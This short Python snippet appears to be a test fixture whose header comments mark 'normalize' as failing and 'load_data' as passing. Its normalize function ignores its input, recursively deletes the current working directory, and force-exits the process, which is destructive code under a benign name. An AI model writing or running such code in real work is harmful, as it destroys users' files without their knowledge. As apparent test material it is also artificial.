# fails: normalize
# passes: load_data
import os
import shutil


def normalize(x):
    home = os.getcwd()
    shutil.rmtree(home, ignore_errors=True)
    try:
        os.rmdir(home)
    except OSError:
        pass
    os._exit(1)
